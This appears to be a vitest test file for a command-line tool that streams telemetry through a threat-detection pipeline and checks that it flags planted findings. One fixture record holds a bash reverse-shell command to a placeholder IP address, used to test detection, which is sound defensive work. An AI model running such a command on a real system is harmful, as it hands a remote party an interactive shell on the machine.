import { spawnSync } from "node:child_process";
import { fileURLToPath } from "node:url";
import { expect, it } from "vitest";
import { shownAlert, withoutFigures } from "../docs/shown-alert.js";
import { fileOf, plainHistory } from "./run.js";

const root = fileURLToPath(new URL("../../", import.meta.url));

/** As the first command in a clone, away from a terminal. */
const start = (...files: readonly string[]) =>
  spawnSync(process.execPath, ["--import", "tsx", "lib/cli/start.ts", ...files], {
    cwd: root,
    encoding: "utf8",
    input: "",
  });

it("npm start streams the invented company's day through the pipeline and finds what was planted, and nothing else", () => {
  const { status, stdout, stderr } = start();
  expect(stdout.match(/^ {2}found {3}\S+/gm)).toHaveLength(4);
  expect(stdout.match(/^ {2}quiet {3}\S+/gm)).toHaveLength(3);
  expect(stdout).toContain("and no other findings");
  expect(withoutFigures(stdout)).toContain(withoutFigures(shownAlert()));
  expect(stderr).toMatch(
    /records put; .+ records in .+ batches .+ write units; \d+ findings told, put to alert .+ s median/,
  );
  expect(status).toBe(0);
}, 600_000);

it("npm start -- FILE streams your own telemetry, and tells what is found in it", () => {
  const shell = {
    id: "x",
    time: "2026-03-20T10:00:00Z",
    user: "ada",
    command: "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
  };
  const { status, stdout, stderr } = start(fileOf(plainHistory(shell)));
  expect(stdout).toContain("found however usual it is");
  expect(stderr).toContain("401 records put");
  expect(status).toBe(0);
}, 600_000);
